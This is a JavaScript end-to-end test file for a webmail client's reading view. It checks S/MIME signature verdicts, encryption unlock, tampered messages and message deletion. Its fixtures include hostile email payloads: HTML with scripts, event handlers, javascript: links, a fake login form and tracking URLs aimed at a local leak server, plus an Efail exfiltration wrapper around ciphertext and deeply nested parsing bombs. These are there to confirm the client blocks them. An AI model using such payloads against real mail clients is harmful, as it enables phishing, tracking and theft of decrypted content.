// End-to-end tests of reading mail in the webmail shell: folders and the message list, the
// message view and its security panel, .eml files opened or dropped, hostile and broken messages.
//
// Mail reaches a folder without the compose view: the test makes it in the page with the engine
// (as the sending account, its key unsealed from the store) and puts the MessageRecord in the
// app's Store itself, as the local transport does (shell.mjs: makeMessage, deliverMessage).
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { readFile } from "node:fs/promises";
import { describe, test } from "node:test";
import {
  INTEROP,
  THUNDERBIRD,
  answerUnlock,
  assertClean,
  createDemoAccounts,
  deliverMessage,
  dropEml,
  makeMessage,
  openEml,
  screenshot,
  selectAccount,
  useBrowser,
  waitForMessage,
} from "./shell.mjs";

/** @typedef {import("playwright-core").Page} Page */

const browser = useBrowser();

const ALICE = "alice@example.org";
const BOB = "bob@example.org";

/**
 * Clicks the list item whose text matches and waits for the message view to settle.
 * @param {Page} page
 * @param {string | RegExp} text
 */
async function openItem(page, text) {
  await page.evaluate(() => document.querySelector('[data-role="message-view"]')?.removeAttribute("data-state"));
  const item = page.locator('[data-role="message-item"]', { hasText: text }).first();
  await item.locator('[data-action="open-message"]').click();
  return waitForMessage(page);
}

/**
 * What the security panel says.
 * @param {Page} page
 */
async function panel(page) {
  const element = page.locator('[data-role="security-panel"]');
  const signers = await element.locator('[data-role="signer"]').evaluateAll((nodes) =>
    nodes.map((node) => ({
      signature: node.getAttribute("data-signature"),
      chain: node.getAttribute("data-chain"),
      address: node.getAttribute("data-address-match"),
    })),
  );
  return {
    verdict: await element.getAttribute("data-verdict"),
    headline: await element.locator('[data-role="verdict"]').innerText(),
    text: await element.innerText(),
    signers,
  };
}

/**
 * The list's items as { id, text, badges, unread }.
 * @param {Page} page
 */
async function listItems(page) {
  return page.locator('[data-role="message-item"]').evaluateAll((nodes) =>
    nodes.map((node) => ({
      id: Number(node.getAttribute("data-message-id")),
      text: /** @type {HTMLElement} */ (node).innerText,
      unread: node.getAttribute("data-unread") === "true",
      badges: [...node.querySelectorAll('[data-role="badge"]')].map((b) => b.getAttribute("data-badge")),
    })),
  );
}

/** @param {Page} page */
async function unreadCount(page) {
  return (await page.locator('[data-role="unread-count"]').textContent())?.trim() ?? "";
}

describe("reading mail", () => {
  test("Bob's Inbox: badges, unread count, Alice's signed message trusted, attachment bytes exact", async () => {
    const { page, problems } = await browser.openShell();
    await createDemoAccounts(page);
    const attachment = Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 31 + 7) % 256));
    const signed = await makeMessage(page, {
      from: ALICE,
      to: [BOB],
      subject: "Signed report",
      text: "Hello Bob,\nthe report is attached.\nAlice",
      attachments: [{ filename: "report.bin", contentType: "application/octet-stream", data: attachment.toString("latin1") }],
      sign: "detached",
    });
    const sealed = await makeMessage(page, {
      from: ALICE,
      to: [BOB],
      subject: "Sealed plans",
      text: "The plans are in the usual place.",
      sign: "opaque",
      encrypt: "aes-256-gcm",
    });
    await deliverMessage(page, BOB, sealed, { reload: false });
    await deliverMessage(page, BOB, signed);

    // After the reload Alice is current; Bob's Inbox shows on selecting him.
    await selectAccount(page, BOB);
    await page.locator('[data-role="message-item"]').nth(1).waitFor();
    let items = await listItems(page);
    assert.equal(items.length, 2);
    assert.equal(await unreadCount(page), "2");
    const signedItem = items.find((item) => item.text.includes("Signed report"));
    const sealedItem = items.find((item) => item.text.includes("Sealed plans"));
    assert.ok(signedItem && sealedItem);
    assert.deepEqual(signedItem.badges, ["signed"], "before opening: what the Content-Type announces");
    assert.deepEqual(sealedItem.badges, ["encrypted"]);
    assert.ok(signedItem.unread && sealedItem.unread);
    assert.match(signedItem.text, /alice@example\.org/, "the sender shows");

    assert.equal(await openItem(page, "Signed report"), "shown");
    const report = await panel(page);
    assert.equal(report.verdict, "valid");
    assert.match(report.headline, /^Signed by alice@example\.org — certificate trusted/);
    assert.deepEqual(report.signers, [{ signature: "valid", chain: "trusted", address: "true" }]);
    assert.match(await page.locator('[data-role="message-text"]').innerText(), /the report is attached/);
    assert.match(await page.locator('[data-role="header-note"]').innerText(), /outside the signature/);

    // The list caches what opening found; the unread count follows.
    await page.waitForFunction(() => document.querySelector('[data-role="unread-count"]')?.textContent === "1");
    items = await listItems(page);
    assert.deepEqual(items.find((item) => item.id === signedItem.id)?.badges, ["trusted"]);
    assert.equal(items.find((item) => item.id === signedItem.id)?.unread, false);

    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.locator('[data-role="attachment"]', { hasText: "report.bin" }).getByRole("button").click(),
    ]);
    assert.equal(download.suggestedFilename(), "report.bin");
    const got = await readFile(/** @type {string} */ (await download.path()));
    assert.ok(got.equals(attachment), "the downloaded attachment is byte for byte the one sent");
    await screenshot(page, "message-security-panel");

    // The encrypted one asks to unlock Bob (locked since the reload); cancelling shows why.
    await page.locator('[data-role="message-item"]', { hasText: "Sealed plans" }).locator('[data-action="open-message"]').click();
    const dialog = page.locator('dialog[data-role="unlock-dialog"][open]');
    await dialog.waitFor();
    await dialog.locator('[data-action="unlock-cancel"]').click();
    assert.equal(await waitForMessage(page), "locked");
    assert.match(await page.locator('[data-role="message-view"]').innerText(), /This message is encrypted\. Unlock bob@example\.org to read it\./);
    await page.locator('[data-role="message-view"] [data-action="unlock"]').click();
    assert.equal(await answerUnlock(page), true);
    assert.equal(await waitForMessage(page), "shown");
    const sealedReport = await panel(page);
    assert.equal(sealedReport.verdict, "valid");
    assert.match(sealedReport.text, /Encrypted with AES-256-GCM, integrity protected/);
    assert.equal(await page.locator('[data-role="layer"][data-kind="encrypted"]').getAttribute("data-integrity"), "protected");
    assert.match(await page.locator('[data-role="message-text"]').innerText(), /The plans are in the usual place\./);
    await page.waitForFunction(() => document.querySelector('[data-role="unread-count"]')?.textContent === "");
    items = await listItems(page);
    assert.deepEqual(items.find((item) => item.id === sealedItem.id)?.badges, ["encrypted", "trusted"]);
    await screenshot(page, "inbox");

    // Delete: gone from the list and the view.
    await page.locator('[data-role="message-view"] [data-action="delete-message"]').click();
    await page.waitForFunction(() => document.querySelectorAll('[data-role="message-item"]').length === 1);
    assert.equal(await page.locator('[data-role="message-view"]').isHidden(), true);
    await assertClean(page, problems);
  });

  test("a message changed after signing, dropped on the mailbox, shows a broken signature", async () => {
    const { page, problems } = await browser.openShell();
    await createDemoAccounts(page);
    const signed = await makeMessage(page, { from: ALICE, to: [BOB], subject: "Pay", text: "Hello Bob, please pay 100 EUR.", sign: "detached" });
    assert.equal(signed.split("Hello Bob").length, 2, "the body line occurs once");
    const tampered = signed.replace("Hello Bob", "Hello Rob");
    assert.equal(await dropEml(page, "tampered.eml", tampered), "shown");
    const report = await panel(page);
    assert.equal(report.verdict, "broken");
    assert.equal(report.headline, "Signature broken: the message was changed after signing");
    assert.equal(report.signers[0].signature, "invalid");
    assert.match(await page.locator('[data-role="message-text"]').innerText(), /Hello Rob/, "the changed text shows under the broken verdict");
    assert.match(await page.locator('[data-role="message-source"]').innerText(), /tampered\.eml, not in a folder/);
    assert.equal(await page.locator('[data-role="message-item"]').count(), 0, "a file is not stored");
    assert.equal(await page.locator('[data-role="message-view"] [data-action="delete-message"]').count(), 0);
    await assertClean(page, problems);
  });

  test("Thunderbird's signed mail opened with the picker: signature intact, its CA not trusted here", async () => {
    const { page, problems } = await browser.openShell();
    await createDemoAccounts(page);
    // MANIFEST.md: alice.sig.SHA256.opaque.eml is crypto-valid; it chains to TestCA.pem only.
    assert.equal(await openEml(page, `${THUNDERBIRD}alice.sig.SHA256.opaque.eml`), "shown");
    const report = await panel(page);
    assert.equal(report.verdict, "untrusted");
    assert.deepEqual(report.signers, [{ signature: "valid", chain: "untrusted", address: "true" }]);
    assert.match(report.headline, /^Signed by alice@example\.com — signature intact, but the certificate is not trusted \(issued by NSS Test CA/i);
    assert.match(await page.locator('[data-role="message-text"]').innerText(), /This is a test message from Alice to Bob\./);
    assert.match(await page.locator('[data-role="message-source"]').innerText(), /alice\.sig\.SHA256\.opaque\.eml, not in a folder/);
    await assertClean(page, problems);
  });

  test("hostile HTML: no request leaves the page, no script runs, no form shows", async () => {
    const leak = await leakServer();
    try {
      const { page, problems } = await browser.openShell();
      await createDemoAccounts(page);
      /** @type {string[]} */
      const requests = [];
      page.on("request", (request) => requests.push(request.url()));
      await page.evaluate(() => {
        const w = /** @type {any} */ (window);
        w.__messages = [];
        window.addEventListener("message", (event) => w.__messages.push(String(event.data)));
      });
      const title = await page.title();
      const logo = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
      const html = [
        `<html><head><link rel="stylesheet" href="${leak.url}/css"><style>@import url(${leak.url}/import); body { background: url(${leak.url}/bg) }</style>`,
        `<meta http-equiv="refresh" content="0; url=${leak.url}/refresh"><base href="${leak.url}/"></head>`,
        `<body onload="parent.document.title='pwned'"><h1 style="background:url(${leak.url}/inline)">Claim your prize</h1>`,
        `<p>Our logo: <img src="cid:logo@hostile" alt="logo"></p>`,
        `<img src="${leak.url}/pixel.gif" width="1" height="1"><img src="//127.0.0.1:${leak.port}/p2"><img srcset="${leak.url}/srcset 2x">`,
        `<img src="x" onerror="parent.postMessage('onerror', '*')">`,
        `<script>parent.document.title = "pwned"; parent.postMessage("script", "*"); fetch("${leak.url}/script");</script>`,
        `<form action="${leak.url}/form" method="post"><input type="password" name="pw"><button>Log in</button></form>`,
        `<iframe src="${leak.url}/frame"></iframe><video poster="${leak.url}/poster"></video>`,
        `<svg><image href="${leak.url}/svg"/></svg><table background="${leak.url}/table"><tr><td>cell</td></tr></table>`,
        `<a href="javascript:parent.postMessage('link','*')">free</a> <a href="${leak.url}/link">details</a></body></html>`,
      ].join("\r\n");
      const eml = [
        "From: mallory@example.net",
        `To: ${ALICE}`,
        "Subject: You won",
        "MIME-Version: 1.0",
        'Content-Type: multipart/related; boundary="rel"',
        "",
        "--rel",
        "Content-Type: text/html; charset=utf-8",
        "",
        html,
        "--rel",
        "Content-Type: image/png",
        "Content-ID: <logo@hostile>",
        "Content-Transfer-Encoding: base64",
        "",
        logo.toString("base64"),
        "--rel--",
        "",
      ].join("\r\n");
      assert.equal(await openEml(page, { name: "hostile.eml", content: eml }), "shown");
      const frame = page.locator('iframe[data-role="message-html"]');
      assert.equal(await frame.getAttribute("sandbox"), "", "sandboxed: no scripts, no forms, opaque origin");
      const srcdoc = (await frame.getAttribute("srcdoc")) ?? "";
      assert.match(srcdoc, /^<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">/);
      const linkTitles = /title="Link to [^"]*"/g; // a link's address stays readable, as text
      assert.ok(!srcdoc.replace(linkTitles, "").includes(String(leak.port)), "no address of the leak server reaches the frame");
      assert.doesNotMatch(srcdoc, /<script|<form|<input|onerror|onload|javascript:/i);
      assert.match(srcdoc, /Claim your prize/);
      assert.match(srcdoc, /<img alt="logo" src="data:image\/png;base64,iVBORw0KGgo/, "the cid: image shows from the message itself");
      assert.match(await page.locator('[data-role="remote-blocked"]').innerText(), /Remote images are blocked/);
      assert.ok(await page.locator('[data-role="scripts-removed"]').isVisible());
      assert.ok(await page.locator('[data-role="forms-removed"]').isVisible());
      assert.equal(await page.locator('[data-role="attachment"]').count(), 0, "the logo shown inline is not offered again");

      await page.waitForTimeout(700); // time for anything that would load or run
      assert.equal(leak.hits.length, 0, `the leak server was not reached: ${leak.hits.join(", ")}`);
      const foreign = requests.filter((url) => !url.startsWith(browser.baseUrl) && !url.startsWith("data:"));
      assert.deepEqual(foreign, [], "no request beyond the shell's own files");
      assert.equal(await page.title(), title, "no script of the message ran");
      assert.deepEqual(await page.evaluate(() => /** @type {any} */ (window).__messages), [], "nothing was posted from the frame");
      await screenshot(page, "hostile-html");
      await assertClean(page, problems);
    } finally {
      await leak.close();
    }
  });

  test("Efail: an encrypted part inside a plain message is shown in its own box, never as the message's", async () => {
    const leak = await leakServer();
    try {
      const { page, problems } = await browser.openShell();
      await createDemoAccounts(page);
      await selectAccount(page, BOB); // unlocked since the demo creation
      const secret = "The launch code is 7391.";
      const encrypted = await makeMessage(page, { from: ALICE, to: [BOB], subject: "Code", text: secret, encrypt: "aes-256-cbc" });
      const [head, body] = splitMessage(encrypted);
      const partHeaders = unfold(head).filter((line) => /^content-/i.test(line));
      // The attacker wraps the captured ciphertext between parts of their own (Efail's direct
      // exfiltration: an unterminated <img src=" before it, the closing quote after it).
      const efail = [
        "From: alice@example.org",
        `To: ${BOB}`,
        "Subject: Re: Code",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="efail"',
        "",
        "--efail",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Please wire 5000 EUR to the account below. -- Alice",
        "--efail",
        "Content-Type: text/html; charset=utf-8",
        "",
        `<img src="${leak.url}/?`,
        "--efail",
        ...partHeaders,
        "",
        body.trimEnd(),
        "--efail",
        "Content-Type: text/html; charset=utf-8",
        "",
        `">`,
        "--efail--",
        "",
      ].join("\r\n");
      assert.equal(await openEml(page, { name: "efail.eml", content: efail }), "shown");
      const report = await panel(page);
      assert.equal(report.verdict, "plain", "the message as a whole is not protected");
      assert.ok(!report.text.includes("Encrypted with"), "the part's encryption is not the message's");
      const main = page.locator('[data-role="message-view"] .message-main > [data-role="message-content"]');
      const mainText = await main.innerText();
      assert.match(mainText, /Please wire 5000 EUR/, "the attacker's own text shows as the unprotected body");
      assert.ok(!mainText.includes(secret), "the decrypted text is not merged into the body");
      const box = page.locator('[data-role="protected-part"]');
      assert.equal(await box.count(), 1);
      assert.match(await box.innerText(), /This part of the message is protected; the rest is not/);
      const partPanel = box.locator('[data-role="part-security-panel"]');
      assert.equal(await partPanel.getAttribute("data-verdict"), "encrypted-only");
      assert.match(await partPanel.innerText(), /Encrypted with AES-256-CBC, not integrity protected/);
      assert.match(await box.locator('[data-role="message-text"]').innerText(), new RegExp(secret.replace(".", "\\.")));
      await page.waitForTimeout(500);
      assert.equal(leak.hits.length, 0, "the attacker's HTML did not exfiltrate anything");
      await screenshot(page, "efail-part");
      await assertClean(page, problems);
    } finally {
      await leak.close();
    }
  });

  test("broken and hostile messages explain themselves, and the page and the worker keep working", async () => {
    const { page, problems } = await browser.openShell();
    await createDemoAccounts(page);
    const error = page.locator('[data-role="message-error"]');

    // Not CMS at all.
    const garbage = smimeFile(Buffer.from("this is not CMS at all, just bytes \u0000\u0001\u0002"));
    assert.equal(await openEml(page, { name: "garbage.eml", content: garbage }), "error");
    assert.equal(await error.getAttribute("data-error-code"), "ERR_MALFORMED_CMS");
    assert.match(await error.innerText(), /Could not open this message\. The S\/MIME data in this message is damaged/);
    assert.doesNotMatch(await error.innerText(), /\bat \S+:\d+|wasm-function|\.js:\d+/, "no stack trace");
    assert.match(await page.locator('[data-role="headers"]').innerText(), /mallory@example\.net/, "the raw header fields still show");
    assert.equal(await page.locator('[data-role="security-panel"]').getAttribute("data-verdict"), "error");

    // 10,000 nested BER constructions inside the CMS.
    const deepDer = Buffer.concat([Buffer.alloc(20_000).fill(Buffer.from([0x30, 0x80])), Buffer.alloc(20_000)]);
    assert.equal(await openEml(page, { name: "deep-cms.eml", content: smimeFile(deepDer) }), "error");
    assert.match((await error.getAttribute("data-error-code")) ?? "", /^ERR_(MALFORMED_CMS|NESTING_TOO_DEEP)$/);

    // 10,000 nested multiparts: read within bounds, nothing hangs.
    const levels = 10_000;
    let deepMime = "From: mallory@example.net\r\nSubject: Deep\r\nMIME-Version: 1.0\r\n";
    for (let i = 0; i < levels; i++) deepMime += `Content-Type: multipart/mixed; boundary="b${i}"\r\n\r\n--b${i}\r\n`;
    deepMime += "Content-Type: text/plain\r\n\r\nbottom\r\n";
    for (let i = levels - 1; i >= 0; i--) deepMime += `--b${i}--\r\n`;
    assert.ok(["shown", "error"].includes(/** @type {string} */ (await openEml(page, { name: "deep-mime.eml", content: deepMime }))));

    // Twenty signatures around each other: more layers than are opened.
    const opaque = /** @type {"opaque"[]} */ (Array(20).fill("opaque"));
    const nested = await makeMessage(page, { from: ALICE, to: [ALICE], subject: "Nested", text: "deep inside", sign: opaque });
    assert.equal(await openEml(page, { name: "nested.eml", content: nested }), "error");
    assert.equal(await error.getAttribute("data-error-code"), "ERR_NESTING_TOO_DEEP");
    assert.match(await error.innerText(), /nested too deeply/);

    // Encrypted for someone else (Thunderbird's Bob).
    assert.equal(await openEml(page, `${THUNDERBIRD}alice.env.eml`), "error");
    assert.equal(await error.getAttribute("data-error-code"), "ERR_NO_MATCHING_RECIPIENT");
    assert.match(await error.innerText(), /encrypted for other people/);

    // RFC 4134 4.9: signed with DSA, which is not supported.
    const dsa = await openEml(page, `${INTEROP}rfc4134/4.9.eml`);
    if (dsa === "error") {
      assert.equal(await error.getAttribute("data-error-code"), "ERR_UNSUPPORTED_ALGORITHM");
    } else {
      const report = await panel(page);
      assert.equal(report.verdict, "broken");
      assert.match(report.headline, /^Signature not checked: it uses an algorithm that is not supported \(DSA with SHA-1\)/);
      assert.match(report.text, /algorithm that is not supported/);
    }
    await screenshot(page, "unsupported-algorithm");

    // The worker still answers: a good message opens.
    assert.equal(await openEml(page, `${THUNDERBIRD}alice.dsig.SHA256.multipart.eml`), "shown");
    assert.equal((await panel(page)).signers[0].signature, "valid");
    assert.ok(await error.isHidden(), "the old error is gone");
    await assertClean(page, problems);
  });

  test("a file over 25 MB is refused before it is read", async () => {
    const { page, problems } = await browser.openShell();
    await createDemoAccounts(page);
    const big = Buffer.alloc(25 * 1024 * 1024 + 1, 0x41);
    assert.equal(await openEml(page, { name: "huge.eml", content: big }), "error");
    const error = page.locator('[data-role="message-error"]');
    assert.equal(await error.getAttribute("data-error-code"), "ERR_TOO_LARGE");
    assert.match(await error.innerText(), /too large to read safely/);
    await assertClean(page, problems);
  });

  test("Sent shows recipients, Drafts open in compose, the keyboard opens messages, accounts switch lists", async () => {
    const { page, problems } = await browser.openShell();
    await createDemoAccounts(page);
    const mail = await makeMessage(page, { from: ALICE, to: [BOB], subject: "Sent one", text: "I sent this.", sign: "detached" });
    await deliverMessage(page, ALICE, mail, { folder: "sent", seen: true, reload: false });
    const draft = { to: [BOB], cc: [], subject: "Half written", text: "Dear Bob,", attachments: [], sign: true, encrypt: true };
    const draftHeaders = await makeMessage(page, { from: ALICE, to: [BOB], subject: "Half written", text: "" });
    await deliverMessage(page, ALICE, draftHeaders, { folder: "drafts", seen: true, draft, reload: false });
    const incoming = await makeMessage(page, { from: BOB, to: [ALICE], subject: "For Alice", text: "Hi Alice", sign: "detached" });
    await deliverMessage(page, ALICE, incoming);

    await page.locator('[data-role="message-item"]').first().waitFor();
    assert.equal(await unreadCount(page), "1");
    await page.locator('nav button[data-folder="sent"]').click();
    await page.locator('[data-role="folder-title"]', { hasText: "Sent" }).waitFor();
    await page.locator('[data-role="message-item"]', { hasText: "Sent one" }).waitFor();
    const sent = await listItems(page);
    assert.equal(sent.length, 1);
    assert.match(sent[0].text, /To: bob@example\.org/);

    // Keyboard: Tab reaches the item, Enter opens it.
    await page.locator('[data-role="message-item"] [data-action="open-message"]').first().focus();
    await page.evaluate(() => document.querySelector('[data-role="message-view"]')?.removeAttribute("data-state"));
    await page.keyboard.press("Enter");
    assert.equal(await waitForMessage(page), "shown");
    assert.equal((await panel(page)).verdict, "valid");

    await page.locator('nav button[data-folder="drafts"]').click();
    const draftItem = page.locator('[data-role="message-item"]', { hasText: "Half written" });
    await draftItem.waitFor();
    assert.match(await draftItem.innerText(), /To: bob@example\.org/);
    await draftItem.locator('[data-action="open-message"]').click();
    await page.waitForFunction(() => document.body.dataset.view === "compose");
    await page.locator('nav button[data-folder="drafts"]').click();
    await draftItem.locator('[data-action="delete-message"]').click();
    await page.locator('[data-role="empty-folder"]').waitFor();
    assert.equal(await page.locator('[data-role="message-item"]').count(), 0);

    // Another account: its own, empty Inbox and count.
    await page.locator('nav button[data-folder="inbox"]').click();
    await page.locator('[data-role="message-item"]', { hasText: "For Alice" }).waitFor();
    await selectAccount(page, BOB);
    await page.locator('[data-role="folder-account"]', { hasText: BOB }).waitFor();
    assert.equal(await page.locator('[data-role="message-item"]').count(), 0);
    assert.equal(await unreadCount(page), "");
    await assertClean(page, problems);
  });
});

/**
 * An S/MIME message whose CMS is `der`.
 * @param {Buffer} der
 */
function smimeFile(der) {
  return [
    "From: mallory@example.net",
    `To: ${ALICE}`,
    "Subject: Broken",
    "MIME-Version: 1.0",
    "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m",
    "Content-Transfer-Encoding: base64",
    "",
    ...(der.toString("base64").match(/.{1,76}/g) ?? []),
    "",
  ].join("\r\n");
}

/**
 * The header block and the body of a message.
 * @param {string} raw
 * @returns {[string, string]}
 */
function splitMessage(raw) {
  const at = raw.indexOf("\r\n\r\n");
  return [raw.slice(0, at), raw.slice(at + 4)];
}

/**
 * Header lines with folded continuations joined.
 * @param {string} head
 */
function unfold(head) {
  return head.replace(/\r\n(?=[ \t])/g, "").split("\r\n");
}

/**
 * A server that records every request: nothing in a message may reach it.
 */
async function leakServer() {
  /** @type {string[]} */
  const hits = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "Content-Type": "image/gif" });
    response.end();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(undefined)));
  const address = server.address();
  if (address === null || typeof address === "string") throw new Error("no TCP address");
  return {
    hits,
    port: address.port,
    url: `http://127.0.0.1:${address.port}`,
    close: () => new Promise((resolve) => server.close(() => resolve(undefined))),
  };
}
